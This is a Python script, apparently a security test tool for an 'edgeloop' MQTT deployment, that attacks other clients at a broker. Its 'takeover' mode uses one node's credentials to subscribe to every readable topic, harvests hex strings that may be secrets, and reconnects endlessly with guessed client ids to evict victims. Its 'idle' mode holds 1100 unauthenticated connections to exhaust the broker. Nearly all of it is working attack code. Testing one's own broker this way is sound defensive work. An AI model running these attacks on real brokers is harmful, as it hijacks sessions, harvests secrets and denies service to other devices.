"""Attacks on other clients' connections at a broker: ``broker_attacker.py ENROLMENT KIND``.

``takeover``: subscribes to everything that a node's credentials can read, collects words that may be part of
a client id, and repeatedly connects with ids made of them. ``idle``: holds `IDLE` connections that never
authenticate, and reopens each one that is closed.
"""

from __future__ import annotations

import re
import selectors
import socket
import sys
import time
from collections import Counter
from contextlib import suppress
from functools import partial
from pathlib import Path

import msgspec
import zstandard
from paho.mqtt.client import Client, MQTTMessage
from paho.mqtt.enums import CallbackAPIVersion

from common.broker_tls import tls_context
from common.config.node import Enrolment

IDLE = 1100
LISTEN_S = 5.0
PAUSE_S = 0.02
WORDS_LIMIT = 20
"""Most frequent words that are tried."""
_WORD = re.compile(rb"[0-9a-f]{8,64}")
_FRAME = b"\x28\xb5\x2f\xfd"


def words_of(payload: bytes) -> list[str]:
    """Possible secrets in a message, decompressed if compressed."""
    start = payload.find(_FRAME)
    if start >= 0:
        with suppress(zstandard.ZstdError):
            payload += zstandard.ZstdDecompressor().decompressobj().decompress(payload[start:])
    return [word.decode() for word in set(_WORD.findall(payload))]


def client_of(enrolment: Enrolment, client_id: str = "") -> Client:
    client = Client(CallbackAPIVersion.VERSION2, client_id=client_id, reconnect_on_failure=False)
    client.username_pw_set(f"{enrolment.site}/{enrolment.node}", enrolment.mqtt_password)
    if enrolment.mqtt_tls:
        client.tls_set_context(tls_context(enrolment.mqtt_ca))
    return client


def _subscribe(topic: str, client: Client, *_: object) -> None:
    client.subscribe(topic, 1)


def take_over(enrolment: Enrolment, victim: str) -> None:
    received: Counter[str] = Counter()
    for topic in ("#", "$SYS/#", "edgeloop/#"):  # A broker may end the connection for one of them.
        listener = client_of(enrolment)
        listener.on_message = lambda _c, _u, message: received.update(_words_of_message(message))
        listener.on_connect = partial(_subscribe, topic)
        listener.connect(enrolment.mqtt_host, enrolment.mqtt_port)
        listener.loop_start()
    time.sleep(LISTEN_S)
    words = [word for word, _ in received.most_common(WORDS_LIMIT)]
    site = enrolment.site
    stems = [f"edgeloop:{site}:{victim}", f"edgeloop:{site}:{victim}:", "edgeloop-cloud-"]
    ids = [victim, f"{site}/{victim}", *stems, *words, *(stem + word for stem in stems for word in words)]
    print(f"attacking {len(ids)} ids of {len(words)} words", flush=True)
    while True:
        for client_id in ids:
            with suppress(OSError):
                client = client_of(enrolment, client_id)
                client.connect(enrolment.mqtt_host, enrolment.mqtt_port)
                client.loop(0.01)
                client.disconnect()
            time.sleep(PAUSE_S)


def _words_of_message(message: MQTTMessage) -> list[str]:
    return words_of(message.topic.encode() + b" " + bytes(message.payload))


def idle(enrolment: Enrolment) -> None:
    address = enrolment.mqtt_host, enrolment.mqtt_port
    with selectors.DefaultSelector() as held:

        def fill() -> None:
            while len(held.get_map()) < IDLE:
                held.register(socket.create_connection(address), selectors.EVENT_READ)

        fill()
        print(f"attacking with {IDLE} connections", flush=True)
        while True:
            for key, _ in held.select():
                assert isinstance(key.fileobj, socket.socket)
                held.unregister(key.fileobj)
                key.fileobj.close()
            with suppress(OSError):
                fill()


def main() -> None:
    path, kind, victim = sys.argv[1:]
    enrolment = msgspec.json.decode(Path(path).read_bytes(), type=Enrolment)
    if kind == "takeover":
        take_over(enrolment, victim)
    idle(enrolment)


if __name__ == "__main__":
    main()
